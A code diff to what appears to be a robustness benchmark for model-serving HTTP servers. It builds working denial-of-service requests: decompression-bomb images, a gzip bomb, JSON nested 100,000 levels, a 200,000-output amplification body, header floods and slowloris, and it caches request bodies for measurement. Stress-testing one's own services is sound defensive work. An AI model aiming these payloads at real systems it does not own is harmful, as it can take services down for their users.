@@ -63,15 +63,19 @@ def _post_image(data: bytes, mime: str) -> Attack:
 
 def attacks(payloads: Payloads) -> dict[str, tuple[Attack, int]]:
     """name -> (the attack, its bytes on the wire per request)."""
-    flood = [("images", (f"{i}.webp", payloads.flood_item, "image/webp")) for i in range(32)]
+    # every body is built once: an attacker that spends its CPU building requests takes it from the server it
+    # attacks on a small machine, and the measurement would be of the attacker
+    flood, flood_type = _multipart([(f"{i}.webp", payloads.flood_item, "image/webp") for i in range(32)])
     deep = b"[" * 100_000 + b"]" * 100_000
     bomb = gzip.compress(b"0" * (64 << 20))
+    amplified: dict[str, bytes] = {}
 
     def amplification(client: httpx.Client, url: str, model: str) -> int:
-        image = {"name": "image", "datatype": "BYTES", "shape": [1], "data": [{"b64": _digit_b64()}]}
-        outputs = [{"name": _first_output(client, url, model)}] * 200_000
-        body = json.dumps({"inputs": [image], "outputs": outputs})
-        return client.post(f"{url}/v2/models/{model}/infer", content=body).status_code
+        if model not in amplified:
+            image = {"name": "image", "datatype": "BYTES", "shape": [1], "data": [{"b64": _digit_b64()}]}
+            outputs = [{"name": _first_output(client, url, model)}] * 200_000
+            amplified[model] = json.dumps({"inputs": [image], "outputs": outputs}).encode()
+        return client.post(f"{url}/v2/models/{model}/infer", content=amplified[model]).status_code
 
     def header_flood(client: httpx.Client, url: str, model: str) -> int:
         headers = {f"x-filler-{i}": "y" * 200 for i in range(400)}  # 80 KB of headers
@@ -88,8 +92,10 @@ def attacks(payloads: Payloads) -> dict[str, tuple[Attack, int]]:
         "WebP 8000x8000, one colour": (_post_image(payloads.webp_huge, "image/webp"), len(payloads.webp_huge)),
         "PNG 8000x8000, one bit": (_post_image(payloads.png_huge, "image/png"), len(payloads.png_huge)),
         "32 WebPs of 2000x2000 in one request": (
-            lambda client, url, model: client.post(url + "/predict", files=flood).status_code,
-            32 * len(payloads.flood_item),
+            lambda client, url, model: (
+                client.post(url + "/predict", content=flood, headers={"content-type": flood_type}).status_code
+            ),
+            len(flood),
         ),
         "JSON nested 100,000 levels": (
             lambda client, url, model: (
@@ -106,9 +112,22 @@ def attacks(payloads: Payloads) -> dict[str, tuple[Attack, int]]:
             ),
             len(bomb),
         ),
-        "400 headers of 200 bytes": (header_flood, 400 * 220),
+        "400 headers of 200 bytes": (header_flood, 400 * 220),  # past a server's own bounds on headers
         "slowloris (a byte a second)": (slowloris, 200),
     }
+
+
+def _multipart(files: list[tuple[str, bytes, str]], field: str = "images") -> tuple[bytes, str]:
+    """A multipart/form-data body of `files` (name, bytes, type) -> (body, its content type)."""
+    boundary = "hostile-boundary-7f3a"
+    parts = [
+        f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{name}"\r\n'
+        f"Content-Type: {mime}\r\n\r\n".encode()
+        + data
+        + b"\r\n"
+        for name, data, mime in files
+    ]
+    return b"".join(parts) + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"
 
 
 def slowloris(client: httpx.Client, url: str, model: str, seconds: float = 30.0) -> int:
